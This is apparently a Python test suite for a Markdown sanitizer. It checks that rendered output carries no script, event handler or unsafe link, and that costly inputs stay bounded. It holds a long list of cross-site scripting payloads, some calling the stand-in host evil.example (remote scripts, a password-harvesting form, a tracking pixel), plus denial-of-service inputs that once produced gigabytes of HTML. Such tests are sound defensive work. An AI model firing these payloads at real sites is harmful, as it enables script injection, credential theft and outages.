"""Markdown as its readers see it, and what an author cannot do to them: each output is parsed and looked through."""

from __future__ import annotations

import re
import tracemalloc
from html.parser import HTMLParser

import pytest
from hypothesis import given, strategies as st

from web.display import markdown
from web.display.markdown import RENDERED_MAX, RUN_MAX, render

VECTORS = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror='alert(1)'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='x' style='position:fixed;inset:0'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<object data=data:text/html,x></object>",
    "<embed src=x>",
    "<video poster=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<x hx-get=/auth/logout hx-trigger=load>",
    "<div hx-on:load=alert(1) data-hx-post=/bin/empty>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](intent://evil#Intent;scheme=javascript;end)",
    "[x](ftp://evil.example/)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/pixel.png)",
    '![" onerror="alert(1)](https://evil.example/a.png "x\' onload=alert(1)")',
    '![x](x"onerror="alert(1))',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[![x](https://evil.example/p.png)](data:text/html,x)",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "[x](https://a.example/'onmouseover='alert(1))",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: data:text/html,x 'onload=alert(1)'",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    '<https://a.example/" onmouseover=alert(1)>',
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/"onmouseover=alert(1)//',
    "mailto:a@b.example?x=<script>alert(1)</script>",
    "javascript://a.example/%0aalert(1)",
    'a@b.example"><svg/onload=alert(1)>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"onload=alert(1)><script>alert(1)</script>\nx\n```',
    "    </pre><svg onload=alert(1)>",
    "# <svg onload=alert(1)>",
    "> <svg onload=alert(1)>\n> > <svg onload=alert(1)>",
    "- [ ] <svg onload=alert(1)>\n  1. [x](javascript:alert(1))",
    "|<svg onload=alert(1)>|[x](javascript:alert(1))|\n|:-:|-:|\n|<img src=x onerror=alert(1)>|`|`|",
    "**<b onclick=alert(1)>** ~~[x](javascript:alert(1))~~",
    '[x](https://a.example """><svg onload=alert(1)>)',
    "\0<svg\0 onload=alert(1)>[x](java\0script:alert(1))",
    "<svg\u2028onload=alert(1)>\u202e<svg onload=alert(1)>",
)
HOSTILE = (
    "![", "[", "[a](", "**a*", "*a _b ", "~~a", "> ", "- ", "1. ", "> - ", "`a", "<a@", "&amp", "http://a/(", "a@b.",
    "https://a.bc/ ", "[a]: b\n", "# a\n", "a\n=\n", "a|b\n-|-\n", "|a", "\\", "\n", "x", "é", "\u0301",
)  # fmt: skip


class Read(HTMLParser):
    """Read HTML as a browser would: its tags, attributes, addresses and words."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []
        self.hrefs: list[str] = []
        self.words = ""
        self.feed(str(html))  # plain text: what is cut out of Markup would be escaped again
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attributes]
        self.hrefs += [value or "" for name, value in attributes if name == "href"]

    def handle_data(self, data: str) -> None:
        self.words += data


def harms(html: str) -> list[str]:
    """Name what a reader's browser could be made to do by this HTML; nothing where it is safe."""
    read = Read(html)
    found = [tag for tag in read.tags if tag not in markdown.TAGS]
    for tag, name, value in read.attributes:
        if not (
            name in markdown.ATTRIBUTES.get(tag, ())
            or value in markdown.VALUES.get(tag, {}).get(name, ())
            or (tag, name, value) == ("a", "rel", markdown.REL)
        ):
            found.append(f"{tag} {name}={value}")
    for href in read.hrefs:
        # Browsers drop tabs and line ends, and leading control characters and blanks, before they look for the scheme.
        scheme = re.match(r"[a-z][a-z0-9+.-]*:", re.sub(r"^[\x00-\x20]+|[\t\r\n]", "", href), re.IGNORECASE)
        if scheme and scheme[0].lower() not in ("http:", "https:", "mailto:"):
            found.append(f"href={href}")
    return found


class Nothing:
    """Stand in for the sanitizer that somebody took out."""

    def clean(self, html: str) -> str:
        return html


@pytest.fixture
def without_cleaner(monkeypatch):
    monkeypatch.setattr(markdown, "_cleaner", Nothing())


@pytest.fixture
def with_html(monkeypatch):
    """Let the parser pass the author's HTML and addresses."""
    for parser in (markdown._LINKING, markdown._PLAIN):
        monkeypatch.setitem(parser.options, "html", True)
    monkeypatch.setattr(markdown._Markdown, "validateLink", lambda *_: True)


@pytest.mark.parametrize("number", range(len(VECTORS)))
def test_a_hostile_text_does_nothing(number):
    assert harms(render(VECTORS[number])) == []


def test_hostile_texts_together_do_nothing():
    assert harms(render("\n\n".join(VECTORS))) == []
    assert harms(render(" ".join(VECTORS))) == []
    assert harms(render("".join(VECTORS))) == []


def test_the_parser_alone_would_hold(without_cleaner):
    for vector in VECTORS:
        found = [harm for harm in harms(render(vector)) if not harm.startswith(("th style", "td style"))]
        assert found == [], vector


def test_the_cleaner_alone_would_hold(with_html):
    for vector in VECTORS:
        assert harms(render(vector)) == [], vector


def test_without_both_walls_these_very_texts_are_caught_doing_harm(without_cleaner, with_html):
    assert sum(bool(harms(render(vector))) for vector in VECTORS) > len(VECTORS) / 2


@given(st.text(alphabet=st.sampled_from("<>[]()!\"'`*_~#|-:/\\&; \n\t\0axhjsd=@.1é\u0301\u202e\u200d🎉"), max_size=200))
def test_whatever_is_typed_only_what_is_allowed_comes_out(text):
    assert harms(render(text)) == []


@given(st.lists(st.sampled_from(VECTORS + HOSTILE), max_size=8).map("".join))
def test_hostile_texts_joined_in_any_way_do_nothing(text):
    assert harms(render(text)) == []


@given(st.text(alphabet=st.characters(categories=("L", "N", "M", "Zs", "So")), max_size=80))
def test_plain_words_come_out_as_they_were_typed(text):
    assert Read(render(f"x{text}x")).words.rstrip("\n") == f"x{text}x"


def test_what_people_write_comes_out_as_they_mean_it():
    html = render("# Soup\n\nBoil **water**, ~~wait~~ *serve*.\n\n- one\n- two\n\n> hot\n\n`salt`\n\n---\n")
    read = Read(html)
    assert read.tags == ["h2", "p", "strong", "s", "em", "ul", "li", "li", "blockquote", "p", "p", "code", "hr"]
    assert "<strong>water</strong>" in html


def test_headings_begin_below_the_pages_own_and_end_at_six():
    assert Read(render("# a\n## b\n##### e\n###### f\n\ng\n=\n")).tags == ["h2", "h3", "h6", "h6", "h2"]


def test_a_table_keeps_its_alignment_without_a_style():
    html = render("|a|b|c|\n|-|:-:|-:|\n|1|2|3|\n")
    assert Read(html).words.split() == ["a", "b", "c", "1", "2", "3"]
    assert 'class="center"' in html
    assert 'class="right"' in html
    assert "style" not in html


def test_tasks_are_shown_as_signs():
    html = render("- [ ] milk\n- [x] bread\n- [X] salt\n- [link] no task\n- [ ]no task\n")
    assert html.count('<li class="task">') == 3
    assert [line for line in Read(html).words.split("\n") if line] == [
        "☐ milk", "☑ bread", "☑ salt", "[link] no task", "[ ]no task",
    ]  # fmt: skip


def test_an_image_becomes_a_link_and_loads_nothing():
    html = render("![a *red* fox](https://e.example/fox.png) ![](b.png) [![in](c.png) a link](/notes)")
    read = Read(html)
    assert "img" not in read.tags
    assert read.hrefs == ["https://e.example/fox.png", "b.png", "/notes"]
    assert read.words.strip() == "Image: a red fox Image Image: in a link"


def test_addresses_in_the_text_become_links_and_file_names_do_not():
    read = Read(render("https://a.example/x, me@b.example.org; setup.py README.md ftp://c.example //d.example"))
    assert read.hrefs == ["https://a.example/x", "mailto:me@b.example.org"]


def test_every_link_tells_search_engines_and_its_target_nothing():
    html = render("<https://a.example> [x](/notes) https://b.example")
    assert html.count(f'rel="{markdown.REL}"') == len(Read(html).hrefs) == 3


def test_each_block_finds_its_own_direction():
    html = render("שלום world\n\nhello שלום\n\n- مرحبا\n\n> x\n\n|א|\n|-|\n")
    assert Read(html).tags == ["p", "p", "ul", "li", "blockquote", "p", "table", "thead", "tr", "th"]
    assert html.count('dir="auto"') == 7


def test_what_is_too_long_for_markdown_is_shown_as_it_was_written():
    text = "*a*\n" * (RENDERED_MAX // 4) + "*b* <svg onload=alert(1)>\n" * 2
    html = render(text)
    assert Read(html).words.count("*b* <svg onload=alert(1)>\n") == 2
    assert "<em>a</em>" in html
    assert "<em>b</em>" not in html
    assert harms(html.replace('<p class="quiet">', "<p>")) == []


def test_nothing_is_lost_where_a_long_text_is_parted():
    for text in ("x" * (RENDERED_MAX + 10), "word " * RENDERED_MAX, "line\n" * RENDERED_MAX):
        words = Read(render(text)).words.replace("From here on the text is shown as it was written.", "")
        assert words.split() == text.split() or "".join(words.split()) == "".join(text.split())


@pytest.mark.timeout(60)  # seconds; without its bounds one of these takes hours
@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_a_megabyte_of_anything_is_answered(number):
    text = (HOSTILE[number] * 1_000_000)[:1_000_000]
    assert harms(render(text).replace('<p class="quiet">', "<p>")) == []


def test_a_word_of_ten_thousand_characters_stays_one_word():
    assert Read(render("x" * 10_000)).words.strip() == "x" * 10_000
    assert Read(render("https://a.example/" + "x" * RUN_MAX)).hrefs == [], "no address is that long"


# Texts of which a reader without bounds makes much more than they are: what each is, and what came of it before.
COSTLY = {
    "addresses": "[x]: /" + "x" * 25_000 + "\n\n" + "[x] " * 6_247,  # 149 MiB of HTML
    "titles": '[x]: / "' + "x" * 25_000 + '"\n\n' + "[x] " * 6_247,
    "images": "[x]: /" + "x" * 25_000 + "\n\n" + "![x] " * 4_998,
    "escapes": "[x]: /" + '"&' * 12_500 + "\n\n" + "[x] " * 6_247,  # more than a minute
    "many": "".join(f"[{n}]: /{'x' * 2_000}\n" for n in range(10)) + "".join(f"[{n % 10}] " for n in range(7_000)),
    "punycode": "[x]: http://" + "ü" * 20_000 + "\n\n" + "[x] " * 7_000,  # 3 GiB
    "empty cells": "|a" * 5_000 + "|\n" + "|-" * 5_000 + "|\n" + "|\n" * 29_000,  # 65,000 cells
    "square table": "|a" * 100 + "|\n" + "|-" * 100 + "|\n" + "|a\n" * 16_000,
    "lazy quotation": ">" * 29 + "a\n" + "b\n" * 24_000,  # each line asked about by each of 29 quotations
    "lazy list": "- " * 14 + "a\n" + "b\n" * 24_000,
}  # fmt: skip


@pytest.mark.parametrize("name", COSTLY)
def test_the_html_of_a_costly_text_stays_in_proportion_to_it(name):
    text = COSTLY[name][:RENDERED_MAX]
    assert len(render(text)) < 25 * len(text)


@pytest.mark.parametrize("name", ["addresses", "empty cells"])
def test_so_does_the_memory_that_reading_it_takes(name):
    tracemalloc.start()
    try:
        render(COSTLY[name][:RENDERED_MAX])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 64 * 2**20


@pytest.mark.parametrize("name", ["empty cells", "square table", "lazy quotation", "lazy list"])
def test_what_is_much_work_for_a_few_letters_is_not_done(name):
    assert "as it was written" in render(COSTLY[name][:RENDERED_MAX])


def test_references_bring_in_addresses_up_to_a_bound_and_stay_text_after_it():
    html = render("[x]: /" + "x" * 25_000 + "\n\n" + "[x] " * 1_000)
    assert 1 <= len(Read(html).hrefs) <= markdown.EXPANDED_MAX // 25_000
    assert Read(html).words.count("x") == 1_000
    assert Read(html).words.count("[x]") == 1_000 - len(Read(html).hrefs)


def test_a_text_that_costs_too_much_is_shown_as_it_was_written():
    text = ">" * 29 + "a\n" + "*b* <svg>\n" * 5_000
    html = render(text)
    assert Read(html).tags == ["p", "pre"]
    assert text in Read(html).words


def test_long_texts_that_people_write_are_far_from_the_bounds(monkeypatch):
    meters = []
    monkeypatch.setattr(markdown, "Meter", lambda real=markdown.Meter: meters.append(real()) or meters[-1])
    paragraph = (
        "Boil **water**, ~~wait~~ and *serve* it [hot](https://a.example/soup) with `salt` and snake_case_words.\n\n"
    )
    listed = "".join(f"- [ ] item {n} of [a list][l]\n" for n in range(1_500)) + "\n[l]: https://a.example/list\n"
    table = "|a|b|c|d|e|f|\n|-|-|-|-|-|-|\n" + "|one|two|three|four|five|six|\n" * 1_500
    for text in (paragraph * 480, listed, table):
        assert "as it was written" not in render(text[:RENDERED_MAX])
        assert meters[-1].left > markdown.STEPS_MAX / 10
